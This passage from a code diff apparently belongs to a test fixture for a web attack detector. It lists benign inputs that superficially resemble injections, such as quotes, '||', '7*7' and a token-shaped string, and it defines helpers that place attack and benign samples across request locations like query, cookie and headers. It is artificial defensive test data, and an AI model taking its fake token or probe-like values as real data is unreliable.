+    "x' cost", "it's 'fine'", "Joe's \"famous\" chili -- best in town", "me & you; forever",
+    "a || b in JavaScript", "select2 jquery plugin", "sleep(1000) in java", "sql injection tutorial",
+    "8a1f2b3c-4d5e-6f70-8192-a3b4c5d6e7f8", "MTIzNDU2Nzg5MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MA==",
+    "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "+33 1 23 45 67 89", "5 ft 11 in", "7*7",
+    "1; 2; 3", "id=42", "C:\\temp\\file.txt", "~/.bashrc tips", "/api/v1/users?id=3",
+]
+
+
+def fresh_attacks() -> list[Entry]:
+    """Return FRESH_ATTACKS in a query and in one more place each."""
+    places = ("form", "json", "cookie", "name", "multipart", "xml", "user-agent", "referer",
+              "header", "path")
+    out = []
+    for i, value in enumerate(FRESH_ATTACKS):
+        for where in ("query", places[i % len(places)]):
+            out.append(_located("fresh-" + where, value, where))
+    return out
+
+
+def fresh_benign() -> list[Entry]:
+    """Return FRESH_BENIGN in a query, a form, JSON and a cookie."""
+    return [_located("benign", value, where) for value in FRESH_BENIGN
+            for where in ("query", "form", "json", "cookie")]
